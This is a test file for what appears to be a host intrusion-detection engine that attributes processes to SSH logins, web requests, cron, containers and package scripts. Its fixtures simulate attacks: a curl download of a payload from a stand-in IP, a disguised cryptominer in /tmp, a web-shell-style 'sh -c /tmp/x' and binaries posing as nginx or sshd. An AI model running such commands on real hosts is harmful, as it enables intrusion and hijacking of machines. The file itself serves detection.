import { beforeEach, describe, expect, it } from 'vitest';
import type { Event } from '../../core/gen/event.ts';
import type { Packages } from '../../core/lineage.ts';
import { clock, event, Machine, t0 } from '../../../test/told-machine.ts';

beforeEach(() => { clock.now = t0; });

describe('a log-on over ssh', () => {
  const listener = (m: Machine): number => m.seen(800, 1, '/usr/sbin/sshd', 'sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups', { cgroup: '/system.slice/ssh.service' });
  const accept = (m: Machine, pid: number): Event => m.tell('network_connection', pid, { action: 'accept', direction: 'inbound', source_ip: '203.0.113.9', source_port: 50_122, destination_ip: '10.0.0.5', destination_port: 22 });
  const accepted = (pid: number): Event => event('sshd', { action: 'login', outcome: 'success', service: 'sshd', process_name: 'sshd', pid, session: String(pid), user: 'root', source_ip: '203.0.113.9', source_port: 50_122 });

  it('is known from the connection before its log line comes, and the line only adds the account', () => {
    const m = new Machine();
    accept(m, listener(m));
    const monitor = m.run(800, '/usr/sbin/sshd', '/usr/sbin/sshd -D -R');
    expect(m.origin(monitor)).toMatchObject({ kind: 'service', name: 'sshd', source_ip: '203.0.113.9' });
    const child = m.fork(monitor);
    const bash = m.run(child, '/bin/bash', '-bash', { user: 'root', uid: 0, cgroup: '/user.slice/user-0.slice/session-5.scope' });
    expect(m.origin(bash)).toMatchObject({ kind: 'login', user: 'root', source_ip: '203.0.113.9', source_port: 50_122 });
    const tool = m.run(bash, '/usr/bin/curl', 'curl -o /tmp/x http://198.51.100.7/x');
    m.graph.observe(accepted(monitor));
    expect(m.origin(tool)).toBe(m.origin(bash));
    expect(m.node(tool).root).toBe(m.node(monitor));
  });

  it('is joined with a line that comes first, and with one that comes when all is over', () => {
    const m = new Machine();
    listener(m);
    m.graph.observe(accepted(6001));
    m.fork(800, 6001);
    const shell = m.run(m.fork(6001), '/bin/sh', 'sh -c id', { user: 'root' });
    expect(m.origin(shell)).toMatchObject({ kind: 'login', user: 'root', source_ip: '203.0.113.9' });

    const late = m.run(800, '/usr/lib/openssh/sshd-session', 'sshd-session: harbour [priv]');
    const work = m.run(m.fork(late), '/bin/sh', 'sh -c id');
    for (const pid of [work, late]) m.end(pid);
    expect(m.origin(work)).toMatchObject({ kind: 'login' });
    expect(m.origin(work).source_ip).toBeUndefined();
    clock.now += 3000;
    m.graph.observe(Object.assign(accepted(late), { source_ip: '198.51.100.4' }));
    expect(m.origin(work)).toMatchObject({ kind: 'login', source_ip: '198.51.100.4' });
  });

  it('that fails stays the service, with the address', () => {
    const m = new Machine();
    accept(m, listener(m));
    const monitor = m.fork(800);
    const said = m.tell('network_connection', monitor, { action: 'connect', direction: 'outbound', destination_ip: '10.0.0.1', destination_port: 53 });
    expect(said).toMatchObject({ origin: 'service', origin_ip: '203.0.113.9', parent_pid: 800, process_path: '/usr/sbin/sshd' });
  });

  it('keeps its origin through sudo, su and a program that outlives the session', () => {
    const m = new Machine();
    accept(m, listener(m));
    const bash = m.run(m.fork(m.fork(800)), '/bin/bash', '-bash', { user: 'wang', uid: 1000 });
    const root = m.run(m.run(bash, '/usr/bin/sudo', 'sudo -i', { user: 'root', uid: 0 }), '/bin/bash', '-bash', { user: 'root', uid: 0 });
    const miner = m.run(root, '/tmp/kworkerds', '/tmp/kworkerds -o pool.example:3333');
    m.end(root); m.end(bash);
    expect(m.origin(miner)).toMatchObject({ kind: 'login', user: 'wang', source_ip: '203.0.113.9' });
    expect(m.node(miner).user).toBe('root');
    expect(m.node(miner).parent?.parent?.name).toBe('sudo');
    const said = m.tell('network_connection', miner, { direction: 'outbound', destination_ip: '198.51.100.7', destination_port: 3333 });
    expect(said).toMatchObject({ origin: 'login', origin_ip: '203.0.113.9', origin_user: 'wang', source_ip: undefined });
  });

  it('is not taken from a line that names the pid of something else', () => {
    const m = new Machine();
    const nginx = m.seen(900, 1, '/usr/sbin/nginx', 'nginx: master process', { cgroup: '/system.slice/nginx.service' });
    m.graph.observe(accepted(nginx));
    expect(m.origin(nginx)).toMatchObject({ kind: 'web', name: 'nginx' });
    expect(m.origin(nginx).source_ip).toBeUndefined();
  });

  it('through a container\'s sshd is joined by address and port, since its log names other pids', () => {
    const m = new Machine();
    accept(m, listener(m));
    const monitor = m.fork(800);
    m.graph.observe(accepted(12));
    expect(m.origin(monitor)).toMatchObject({ kind: 'login', user: 'root', source_ip: '203.0.113.9' });
  });

  it('who was on already is known from logind, from utmp and from sshd\'s title', () => {
    const logon = { user: 'wang', source_ip: '203.0.113.9', terminal: 'pts/3', pid: 700, since: t0 - 7_200_000, until: undefined };
    const other = { ...logon, user: 'li', source_ip: '198.51.100.4', terminal: 'pts/4', pid: 2199 };
    const m = new Machine({ session: (id) => (id === '5' ? logon : undefined), logons: () => [logon, other] });
    m.seen(2000, 1, '/usr/bin/tmux', 'tmux', { cgroup: '/user.slice/user-1000.slice/session-5.scope', user: 'wang' });
    expect(m.origin(2000)).toMatchObject({ kind: 'login', user: 'wang', source_ip: '203.0.113.9' });
    m.seen(2100, 1, '/bin/bash', '-bash', { terminal: 'pts/3' });
    expect(m.origin(2100)).toMatchObject({ kind: 'login', source_ip: '203.0.113.9' });
    m.seen(2199, 1, '/usr/sbin/sshd', 'sshd: li [priv]');
    expect(m.origin(2199).kind).toBe('service');
    m.seen(2200, 2199, '/usr/sbin/sshd', 'sshd: li@pts/4');
    m.seen(2201, 2200, '/bin/bash', '-bash', { terminal: 'pts/4' });
    expect(m.origin(2201)).toMatchObject({ kind: 'login', user: 'li', source_ip: '198.51.100.4' });
    expect(m.node(2201).root.pid).toBe(2199);
  });
});

describe('web servers', () => {
  it('what a worker starts comes from the web, whatever runs in between', () => {
    const m = new Machine();
    m.seen(900, 1, '/usr/sbin/php-fpm8.2', 'php-fpm: master process (/etc/php/8.2/fpm/php-fpm.conf)', { cgroup: '/system.slice/php8.2-fpm.service' });
    const worker = m.fork(900);
    const shell = m.run(worker, '/bin/sh', 'sh -c id', { user: 'www-data' });
    const deep = m.run(shell, '/usr/bin/python3', 'python3 -c 1');
    expect(m.origin(deep)).toMatchObject({ kind: 'web', name: 'php-fpm' });
    expect(m.node(deep).root).toBe(m.node(worker));
  });

  it('what a unit\'s server started before it listened is the web\'s as well', () => {
    const m = new Machine();
    const npm = m.run(1, '/usr/bin/node', 'npm start', { cgroup: '/system.slice/shop.service' });
    const app = m.run(m.run(npm, '/bin/sh', 'sh -c node server.js'), '/usr/bin/node', 'node server.js');
    const early = m.run(app, '/bin/sh', 'sh -c id');
    const deep = m.run(early, '/usr/bin/python3', 'python3 -c 1');
    expect(m.origin(deep)).toMatchObject({ kind: 'service', name: 'shop' });
    m.tell('listener', app, { action: 'listener-start', protocol: 'tcp', destination_ip: '127.0.0.1', destination_port: 3000 });
    for (const pid of [app, early, deep]) expect(m.origin(pid)).toMatchObject({ kind: 'web', name: 'shop' });
    expect(m.origin(npm).kind).toBe('service');
  });

  it('an interpreter becomes one when it listens on a web port, unless a person runs it', () => {
    const m = new Machine();
    const app = m.run(1, '/usr/bin/node', 'node /srv/shop/server.js', { cgroup: '/system.slice/shop.service' });
    expect(m.origin(app)).toMatchObject({ kind: 'service', name: 'shop' });
    m.tell('listener', app, { action: 'listener-start', protocol: 'tcp', destination_ip: '0.0.0.0', destination_port: 3000 });
    expect(m.origin(m.run(app, '/bin/sh', 'sh -c id'))).toMatchObject({ kind: 'web', name: 'shop' });

    m.seen(800, 1, '/usr/sbin/sshd', 'sshd: /usr/sbin/sshd -D [listener]');
    const dev = m.run(m.run(m.fork(800), '/bin/bash', '-bash'), '/usr/bin/python3', 'python3 -m http.server 8000');
    m.tell('listener', dev, { protocol: 'tcp', destination_port: 8000 });
    expect(m.origin(dev).kind).toBe('login');
  });
});

describe('a web request', () => {
  const request = (ip: string, time: number, path = '/upload/x.php'): Event => Object.assign(event('nginx', { source_ip: ip, url_path: path }), { time });
  const attack = () => {
    const m = new Machine();
    m.seen(900, 1, '/usr/sbin/php-fpm8.2', 'php-fpm: master process', { cgroup: '/system.slice/php8.2-fpm.service' });
    const shell = m.run(m.fork(900), '/bin/sh', 'sh -c /tmp/x & id', { user: 'www-data', process_cwd: '/var/www/html/up/new' });
    const tool = m.run(shell, '/tmp/x', '/tmp/x', { user: 'www-data' });
    clock.now += 4000;
    m.end(shell);
    return { m, tool, ended: clock.now };
  };

  it('gives its client to what it started, when only one client fits', () => {
    const { m, tool, ended } = attack();
    m.graph.observe(request('192.0.2.10', ended - 3900));
    m.graph.observe(request('192.0.2.11', ended + 100, '/logo.png'));
    m.graph.observe(request('203.0.113.66', ended + 50));
    m.graph.tick(ended + 10_000);
    expect(m.origin(tool)).toMatchObject({ kind: 'web', name: 'php-fpm', source_ip: '203.0.113.66' });
    expect(m.node(tool).root.name).toBe('sh');
  });

  it('gives it to the one of several who asked for a page in the folder that it runs in', () => {
    for (const [other, client] of [['/cart/a.php', '203.0.113.66'], ['/new/b.php', undefined]] as const) {
      const { m, tool, ended } = attack();
      m.graph.observe(request('203.0.113.66', ended + 50, '/up/new/logo.php/x'));
      m.graph.observe(request('192.0.2.10', ended + 300, other));
      m.graph.tick(ended + 10_000);
      expect(m.origin(tool).source_ip).toBe(client);
    }
  });

  it('names nobody when two do', () => {
    const { m, tool, ended } = attack();
    m.graph.observe(request('203.0.113.66', ended + 50));
    m.graph.observe(request('192.0.2.10', ended + 300, '/cart'));
    m.graph.tick(ended + 10_000);
    expect(m.origin(tool).source_ip).toBeUndefined();
  });
});

describe('a name alone', () => {
  const owned: Packages = { ready: true, owner: (path) => (path === '/usr/sbin/nginx' || path === '/usr/sbin/sshd' ? { manager: 'dpkg', name: 'nginx', version: '1', intact: true } : undefined) };
  const inSession = (packages?: Packages) => {
    const m = new Machine({}, packages);
    m.seen(800, 1, '/usr/sbin/sshd', 'sshd: /usr/sbin/sshd -D [listener]', { cgroup: '/system.slice/ssh.service' });
    m.tell('network_connection', 800, { direction: 'inbound', source_ip: '203.0.113.9', source_port: 1, destination_port: 22 });
    return { m, bash: m.run(m.fork(800), '/bin/bash', '-bash', { user: 'root' }) };
  };

  it.each(['/tmp/.x/nginx', '/usr/sbin/mysqld', '/dev/shm/sshd', '/root/crond', '/tmp/AliYunDun', '/tmp/login', '/tmp/dpkg'])('does not take the origin from %s, nor from what it starts', (path) => {
    const { m, bash } = inSession(owned);
    const fake = m.run(bash, path);
    for (const pid of [fake, m.run(m.fork(fake), '/bin/sh', 'sh -c id')]) expect(m.origin(pid)).toMatchObject({ kind: 'login', source_ip: '203.0.113.9' });
  });

  it('nor does one from the web come from elsewhere because a package manager runs', () => {
    const m = new Machine();
    m.seen(900, 1, '/usr/sbin/php-fpm8.2', 'php-fpm: master process', { cgroup: '/system.slice/php8.2-fpm.service' });
    const shell = m.run(m.fork(900), '/bin/sh', 'sh -c pip install x');
    const pip = m.run(shell, '/usr/bin/python3', '/usr/bin/python3 /usr/bin/pip install x');
    for (const pid of [m.run(pip, '/bin/sh', 'sh -c setup.py'), m.run(shell, '/tmp/sshd'), m.run(shell, '/tmp/nginx')]) expect(m.origin(pid).kind).toBe('web');
  });

  it('is enough for a program that a package owns, and for one that listens', () => {
    const { m, bash } = inSession(owned);
    expect(m.origin(m.run(bash, '/usr/sbin/nginx', 'nginx'))).toMatchObject({ kind: 'web', name: 'nginx' });
    const own = m.run(bash, '/srv/build/sbin/nginx', 'nginx');
    expect(m.origin(own).kind).toBe('login');
    m.tell('listener', own, { action: 'listener-start', protocol: 'tcp', destination_port: 8080 });
    expect(m.origin(own)).toMatchObject({ kind: 'web', name: 'nginx' });
    expect(m.node(own).parent?.pid).toBe(bash);
    // What an sshd of one's own let in before it was seen to listen is a connection all the same.
    const sshd = m.run(bash, '/srv/build/sshd', 'sshd -D -p 2222');
    const inner = m.run(m.fork(m.fork(sshd)), '/bin/sh', 'sh -c id', { user: 'li' });
    expect(m.origin(inner)).toBe(m.origin(bash));
    m.tell('listener', sshd, { action: 'listener-start', protocol: 'tcp', destination_port: 2222 });
    expect([m.origin(sshd).kind, m.origin(inner).kind, m.origin(inner).user, m.node(inner).root.parent?.pid]).toEqual(['service', 'login', 'li', sshd]);
    // Listening does not help what lies where no server is installed, nor what the session itself put there.
    m.tell('file_event', bash, { action: 'create', file_path: '/srv/x/httpd', file_inode: 77, file_device: 8 });
    for (const path of ['/tmp/httpd', '/dev/shm/nginx', '/root/.cache/nginx', '/srv/x/httpd']) {
      const planted = m.run(bash, path);
      m.tell('listener', planted, { action: 'listener-start', protocol: 'tcp', destination_port: 8080 });
      expect(m.origin(planted), path).toMatchObject({ kind: 'login', source_ip: '203.0.113.9' });
    }
    // Without an index of packages a system place is not enough in a session.
    const { m: bare, bash: shell } = inSession();
    expect(bare.origin(bare.run(shell, '/usr/sbin/nginx', 'nginx')).kind).toBe('login');
  });

  it('what sshd runs as root before the session begins is not who logged on', () => {
    const m = new Machine();
    m.seen(800, 1, '/usr/sbin/sshd', 'sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups', { cgroup: '/system.slice/ssh.service' });
    m.tell('network_connection', 800, { action: 'accept', direction: 'inbound', source_ip: '203.0.113.9', source_port: 50_122, destination_ip: '192.0.2.5', destination_port: 22 });
    const monitor = m.run(800, '/usr/sbin/sshd', '/usr/sbin/sshd -D -R', { user: 'root' });
    m.run(monitor, '/bin/sh', 'sh -c run-parts --lsbsysinit /etc/update-motd.d', { user: 'root' });
    const shell = m.run(m.fork(monitor), '/bin/bash', 'bash -c npm ci', { user: 'li' });
    expect(m.origin(shell)).toMatchObject({ kind: 'login', user: 'li', source_ip: '203.0.113.9' });
    // The log line comes after the package script has begun.
    const npm = m.run(shell, '/usr/bin/node', 'npm ci', { user: 'li' });
    expect(m.origin(m.run(npm, '/bin/sh', 'sh -c node setup.js', { user: 'li' }))).toMatchObject({ kind: 'package', user: 'li' });
    // Whoever root becomes afterwards is still root's session.
    const root = m.run(m.fork(m.run(800, '/usr/sbin/sshd', '/usr/sbin/sshd -D -R', { user: 'root' })), '/bin/bash', '-bash', { user: 'root' });
    m.run(m.run(root, '/usr/bin/su', 'su li -c id', { user: 'root' }), '/usr/bin/id', 'id', { user: 'li' });
    expect(m.origin(root).user).toBe('root');
  });

  it('a second line for the same connection changes nothing, nor does any line the address that the kernel saw', () => {
    const { m, bash } = inSession();
    const line = (user: string, ip: string): void => m.graph.observe(event('sshd', { action: 'login', outcome: 'success', pid: m.node(bash).root.pid, user, source_ip: ip, source_port: 1 }));
    line('toor', '192.0.2.99');
    expect(m.origin(bash)).toMatchObject({ user: 'toor', source_ip: '203.0.113.9' });
    line('nobody', '192.0.2.98');
    expect(m.origin(bash)).toMatchObject({ user: 'toor', source_ip: '203.0.113.9' });
  });
});

describe('the other beginnings', () => {
  it('cron: each run is one tree, with the account and command of its line', () => {
    const m = new Machine();
    m.seen(300, 1, '/usr/sbin/cron', '/usr/sbin/cron -f', { cgroup: '/system.slice/cron.service' });
    const run = m.fork(300);
    const job = m.run(m.fork(run), '/bin/sh', '/bin/sh -c /opt/backup.sh');
    expect(m.origin(job)).toMatchObject({ kind: 'cron', name: '/opt/backup.sh' });
    m.graph.observe(event('cron', { action: 'cron-run', pid: run, process_name: 'CRON', user: 'root', process_cmdline: '/opt/backup.sh # nightly' }));
    expect(m.origin(job)).toMatchObject({ kind: 'cron', user: 'root', name: '/opt/backup.sh # nightly' });
    const other = m.run(m.fork(m.fork(300)), '/bin/sh', '/bin/sh -c date');
    expect(m.origin(other)).not.toBe(m.origin(job));
  });

  it('timer, service, cloud assistant, console, kernel and database by what each shows', () => {
    const m = new Machine({ hasTimer: (unit) => unit === 'logrotate.service' });
    const unit = (name: string, path: string): ReturnType<Machine['origin']> => m.origin(m.run(1, path, path, { cgroup: `/system.slice/${name}.service` }));
    expect(unit('logrotate', '/usr/sbin/logrotate')).toMatchObject({ kind: 'timer', name: 'logrotate' });
    expect(unit('chrony', '/usr/sbin/chronyd')).toMatchObject({ kind: 'service', name: 'chrony' });
    expect(unit('aliyun', '/usr/local/share/aliyun-assist/aliyun-service')).toMatchObject({ kind: 'cloud' });
    expect(unit('mariadb', '/usr/sbin/mariadbd')).toMatchObject({ kind: 'service', name: 'mariadbd' });
    const login = m.run(1, '/bin/login', '/bin/login -p --', { terminal: 'tty1', cgroup: '/system.slice/system-getty.slice/getty@tty1.service' });
    expect(m.origin(m.run(login, '/bin/bash', '-bash', { user: 'root', terminal: 'tty1', cgroup: '/user.slice/user-0.slice/session-1.scope' }))).toMatchObject({ kind: 'console', user: 'root', name: 'tty1' });
    m.started.set(6200, clock.now);
    m.tell('process_creation', 6200, { action: 'process-start', parent_pid: 2, process_name: 'modprobe', process_path: '/sbin/modprobe', process_cmdline: '/sbin/modprobe -q x' });
    expect(m.origin(6200).kind).toBe('kernel');
  });

  it('scripts of packages, with the account whose tree installs', () => {
    const m = new Machine();
    m.seen(800, 1, '/usr/sbin/sshd', 'sshd: /usr/sbin/sshd -D [listener]');
    m.tell('network_connection', 800, { direction: 'inbound', source_ip: '203.0.113.9', source_port: 1, destination_port: 22 });
    const bash = m.run(m.fork(800), '/bin/bash', '-bash', { user: 'wang' });
    const npm = m.run(bash, '/usr/bin/node', 'node /usr/bin/npm install left-pad');
    const script = m.run(npm, '/bin/sh', 'sh -c node postinstall.js');
    expect(m.origin(npm).kind).toBe('login');
    expect(m.origin(script)).toMatchObject({ kind: 'package', name: 'npm', user: 'wang', source_ip: '203.0.113.9' });
    const start = m.run(bash, '/usr/bin/node', 'node /usr/bin/npm start');
    expect(m.origin(m.run(start, '/bin/sh', 'sh -c node server.js')).kind).toBe('login');
    const dpkg = m.run(m.run(bash, '/usr/bin/apt-get', 'apt-get install -y jq'), '/usr/bin/dpkg', 'dpkg --unpack x.deb');
    expect(m.origin(m.run(dpkg, '/bin/sh', '/bin/sh /var/lib/dpkg/info/jq.postinst configure'))).toMatchObject({ kind: 'package', name: 'apt-get' });
  });

  it('containers, with name and image where they can be read', () => {
    const id = 'ab'.repeat(32);
    const m = new Machine({ container: (given) => (given === id ? { id, name: 'shop', image: 'shop:1.4', runtime: 'docker' } : undefined) });
    m.seen(400, 1, '/usr/bin/containerd-shim-runc-v2', 'containerd-shim', { cgroup: '/system.slice/containerd.service' });
    const main = m.run(400, '/app/main', '/app/main', { container_id: id, cgroup: `/system.slice/docker-${id}.scope` });
    expect(m.origin(main)).toMatchObject({ kind: 'container', name: 'shop', container: { image: 'shop:1.4' } });
    const nginx = m.run(400, '/usr/sbin/nginx', 'nginx', { container_id: id, cgroup: `/system.slice/docker-${id}.scope` });
    expect(m.origin(nginx)).toMatchObject({ kind: 'web', container: { name: 'shop' } });
  });

  it('a parent that was never seen is taken from what its child says of it', () => {
    const m = new Machine();
    m.started.set(7001, clock.now);
    m.tell('process_creation', 7001, { action: 'process-start', parent_pid: 7000, parent_path: '/usr/sbin/nginx', parent_cmdline: 'nginx: worker process', process_name: 'sh', process_path: '/bin/sh', process_cmdline: 'sh -c id' });
    expect(m.origin(7001)).toMatchObject({ kind: 'web', name: 'nginx' });
    expect(m.node(7001).parent).toMatchObject({ pid: 7000, started: 0 });
    m.seen(7000, 1, '/usr/sbin/nginx', 'nginx: worker process', { cgroup: '/system.slice/nginx.service' });
    expect(m.node(7001).parent?.parent?.pid).toBe(1);
  });
});

describe('what it did', () => {
  it('is kept once with how often, and links the writer of a file to who runs it', () => {
    const m = new Machine();
    const curl = m.run(1, '/usr/bin/curl', 'curl -o /tmp/x');
    for (let i = 0; i < 3; i++) m.tell('file_event', curl, { action: 'write', file_path: '/tmp/x.part', file_inode: 77, file_device: 2049 });
    m.tell('dns_query', curl, { destination_host: 'dl.example' });
    m.tell('network_connection', curl, { direction: 'outbound', destination_ip: '198.51.100.7', destination_port: 443, action: 'connect' });
    m.tell('flow', curl, { direction: 'outbound', destination_ip: '198.51.100.7', destination_port: 443, payload: 'GET /x HTTP/1.1' });
    const mv = m.run(1, '/bin/mv', 'mv /tmp/x.part /tmp/x');
    m.tell('file_event', mv, { action: 'rename', file_from: '/tmp/x.part', file_path: '/tmp/x', file_inode: 77, file_device: 2049 });
    m.end(mv); m.end(curl);
    expect(m.node(curl).wrote).toMatchObject([{ what: '/tmp/x.part', count: 3, action: 'write', inode: 77 }]);
    expect(m.node(curl).asked).toMatchObject([{ what: 'dl.example', count: 1 }]);
    expect(m.node(curl).spoke).toMatchObject([{ what: '198.51.100.7 443', direction: 'outbound', count: 2, sent: 'GET /x HTTP/1.1' }]);
    const byName = m.run(1, '/tmp/x', '/tmp/x');
    expect(m.node(byName).writtenBy).toMatchObject({ path: '/tmp/x', process: { pid: curl } });
    const copy = m.run(1, '/proc/self/fd/3', 'x', { file_inode: 77, file_device: 2049 });
    expect(m.node(copy).writtenBy?.process.pid).toBe(curl);
    expect(m.graph.writer({ path: '/tmp/x' })?.process.pid).toBe(curl);
  });

  it('keeps what a process was before it became another', () => {
    const m = new Machine();
    const sh = m.run(1, '/bin/sh', 'sh -c exec /tmp/x');
    m.exec(sh, '/tmp/x', '/tmp/x');
    expect(m.node(sh)).toMatchObject({ path: '/tmp/x', was: [{ path: '/bin/sh', cmdline: 'sh -c exec /tmp/x' }] });
  });

  it('a pid given anew is another process, and the ended one is found by its identity', () => {
    const m = new Machine();
    const pid = m.run(1, '/bin/true');
    const before = m.started.get(pid)!;
    m.end(pid);
    clock.now += 60_000;
    m.fork(1, pid);
    m.exec(pid, '/bin/date');
    expect(m.graph.process(pid)?.path).toBe('/bin/date');
    expect(m.graph.process(pid, before)?.path).toBe('/bin/true');
  });

  it('an event is answered with its process, also the end of one that is kept no longer', () => {
    const m = new Machine();
    const worker = m.fork(1);
    const end = event('process_termination', { pid: worker, process_started: m.started.get(worker), action: 'process-end' });
    m.graph.observe(end);
    expect(m.graph.of(end)?.pid).toBe(worker);
    expect(m.graph.process(worker)).toBeUndefined();
  });
});
